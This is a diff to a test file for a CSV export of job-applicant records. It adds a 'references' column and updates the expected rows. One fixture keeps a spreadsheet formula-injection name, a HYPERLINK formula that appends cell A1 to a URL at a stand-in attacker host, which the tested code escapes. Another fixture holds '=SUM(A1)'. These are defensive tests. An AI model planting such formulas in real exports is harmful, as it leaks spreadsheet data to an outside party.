@@ -37,9 +37,9 @@ describe('digestCsv', () => {
     expect(csv?.filename).toBe('robust-ai-candidates.csv');
     expect(csv?.contentType).toBe('text/csv; charset=utf-8');
     expect(rowsOf(csv?.content ?? '')).toEqual([
-      'id,name,email,first_seen,last_seen,documents,missing,complete,flags,messages,fit_score,folders,profile,topics,registration,status',
-      'new,Zoë Ünal,new@example.org,2026-11-23T09:00:00.000Z,2026-11-23T09:00:00.000Z,cv,,yes,,1,1.9,Applications/robust-ai,,,,',
-      'old,"Doe, Jane",old@example.org,2026-11-01T09:00:00.000Z,2026-11-01T09:00:00.000Z,cv,transcript;reference,no,late;tag-variant,1,,Applications/robust-ai,,,,declined',
+      'id,name,email,first_seen,last_seen,documents,missing,complete,flags,messages,fit_score,folders,profile,topics,registration,status,references',
+      'new,Zoë Ünal,new@example.org,2026-11-23T09:00:00.000Z,2026-11-23T09:00:00.000Z,cv,,yes,,1,1.9,Applications/robust-ai,,,,,',
+      'old,"Doe, Jane",old@example.org,2026-11-01T09:00:00.000Z,2026-11-01T09:00:00.000Z,cv,transcript;reference,no,late;tag-variant,1,,Applications/robust-ai,,,,declined,',
     ]);
   });
 
@@ -48,7 +48,7 @@ describe('digestCsv', () => {
     const rows = rowsOf(digestCsv(vacancy('robust-ai', [changed(evil, true)]), WEIGHTS)?.content ?? '');
     expect(rows[1]).toBe(
       'evil,"\'=HYPERLINK(""http://evil.example/?""&A1,""CV"")",evil@example.org,2026-11-23T09:00:00.000Z,' +
-        '2026-11-23T09:00:00.000Z,cv,,yes,,1,,Applications/robust-ai,,,,',
+        '2026-11-23T09:00:00.000Z,cv,,yes,,1,,Applications/robust-ai,,,,,',
     );
   });
 
@@ -74,7 +74,7 @@ describe('digestCsv', () => {
     );
     expect(
       rows[1]?.endsWith(
-        ',agentic workflows for medical image analysis;DPhil in Engineering Science,"registered (by name ""=SUM(A1)"", form line 3; address a@b.example)",',
+        ',agentic workflows for medical image analysis;DPhil in Engineering Science,"registered (by name ""=SUM(A1)"", form line 3; address a@b.example)",,',
       ),
     ).toBe(true);
   });
